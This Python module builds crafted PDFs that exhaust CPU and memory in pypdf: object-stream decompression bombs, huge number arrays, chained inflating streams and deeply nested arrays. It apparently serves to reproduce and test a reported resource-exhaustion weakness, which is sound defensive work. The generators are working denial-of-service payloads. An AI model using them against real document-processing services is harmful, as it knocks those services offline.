"""Crafted PDFs that make a PDF parser work against the server: a few kilobytes on the wire,
seconds of CPU and hundreds of megabytes once parsed by pypdf without limits. Each is a
structurally valid PDF (cross-reference stream, catalogue, page tree, one page).

- ``object_stream_bomb``: the catalogue, page tree and page each live in an object stream that
  inflates to ``padding`` spaces before the object; pypdf scans them byte by byte (the report's
  73 KB file took 5 s, 433 KB took 18 s and 546 MB);
- ``number_arrays``: the catalogue's object stream also holds arrays of hundreds of thousands of
  numbers, inside any inflate limit a real document needs (one megabyte), parsed at microseconds each;
- ``inflated_chain``: object streams whose ``/Length`` is an object in the next one, each inflating
  to one megabyte that pypdf keeps: memory grows with the chain, at almost no CPU;
- ``deep_nesting``: an array nested ``depth`` times in the catalogue.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field


@dataclass
class ObjectStream:
    number: int
    members: list[tuple[int, bytes]] = field(default_factory=list)
    padding: int = 0  # spaces in the inflated data
    scanned: bool = True  # before the first object (scanned byte by byte) or skipped through /First
    length_in: int | None = None  # an object (in another object stream) that holds this stream's /Length


def _deflate(*parts: bytes | int) -> bytes:
    """zlib of the parts in order, an int standing for that many spaces (fed in 1 MB pieces, so a
    padding of hundreds of megabytes never sits in memory)."""
    packer, out = zlib.compressobj(9), []
    for part in parts:
        if isinstance(part, int):
            piece = b" " * min(part, 1 << 20)
            for start in range(0, part, len(piece) or 1):
                out.append(packer.compress(piece[:part - start]))
        else:
            out.append(packer.compress(part))
    out.append(packer.flush())
    return b"".join(out)


def _pack(stream: ObjectStream, members: list[tuple[int, bytes]]) -> tuple[bytes, int, int]:
    """(compressed data, /N, /First) of one object stream."""
    if stream.scanned and stream.padding:  # one object after the padding, reached by scanning it
        header = b"%d 0 " % members[0][0]
        return _deflate(header, stream.padding, members[0][1]), 1, len(header)
    parts, bodies, position = [], [], 0
    for num, body in members:
        parts.append(b"%d %d" % (num, position))
        bodies.append(body)
        position += len(body) + 1
    header = b" ".join(parts) + b" "
    return _deflate(header, stream.padding, b" ".join(bodies)), len(members), len(header) + stream.padding


def build(top: dict[int, bytes], streams: list[ObjectStream], root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    located: dict[int, tuple[int, int]] = {}  # object → (its object stream, index)
    lengths: dict[int, int] = {}  # object holding another stream's /Length → that length
    for num, body in sorted(top.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    for stream in streams:  # a stream's length is known before the stream that holds it
        members = [(num, b"%d" % lengths[num] if num in lengths else body) for num, body in stream.members]
        packed, count, first = _pack(stream, members)
        for index, (num, _) in enumerate(members[:count]):
            located[num] = (stream.number, index)
        if stream.length_in is not None:
            lengths[stream.length_in] = len(packed)
        length = b"%d 0 R" % stream.length_in if stream.length_in is not None else b"%d" % len(packed)
        offsets[stream.number] = len(out)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %s /Filter /FlateDecode >>\nstream\n" % (
            stream.number, count, first, length)
        out += packed + b"\nendstream\nendobj\n"
    xref = max([*offsets, *located]) + 1
    offsets[xref] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for num in range(1, xref + 1):
        if num in located:
            stream_number, index = located[num]
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big"))
        elif num in offsets:
            rows.append(b"\x01" + offsets[num].to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00\x00\x00\x00\x00\xff\xff")
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d /Filter /FlateDecode >>\nstream\n" % (
        xref, xref + 1, root, len(table))
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def object_stream_bomb(padding: int = 70_000_000, streams: int = 3) -> bytes:
    """``streams`` = 1: the catalogue alone is padded; 3: catalogue, page tree and page."""
    objects = [(1, CATALOG), (2, PAGES), (3, PAGE)]
    return build({}, [ObjectStream(10 + i, [objects[i]], padding=padding if i < streams else 0)
                      for i in range(3)])


def number_arrays(numbers: int = 400_000) -> bytes:
    arrays = []
    while numbers > 0:
        count = min(numbers, 90_000)  # under pypdf's 100,000 elements per array
        arrays.append(b"[" + b"0 " * count + b"]")
        numbers -= count
    members = [(1, CATALOG), (2, PAGES), (3, PAGE)] + [(20 + i, array) for i, array in enumerate(arrays)]
    return build({}, [ObjectStream(10, members)])


def inflated_chain(links: int = 40, padding: int = 1_000_000) -> bytes:
    """Object stream k holds the /Length of stream k-1 and is padded to ``padding`` bytes (skipped
    through /First, so no scanning); the catalogue is in the first one."""
    streams = []
    for k in range(links):
        members = [(1, CATALOG), (2, PAGES), (3, PAGE)] if k == 0 else [(100 + k, b"0")]
        streams.append(ObjectStream(1000 + k, members, padding=padding, scanned=False,
                                    length_in=100 + k + 1 if k + 1 < links else None))
    return build({}, streams)


def deep_nesting(depth: int = 100_000) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>"
    return build({1: catalog, 2: PAGES, 3: PAGE}, [])
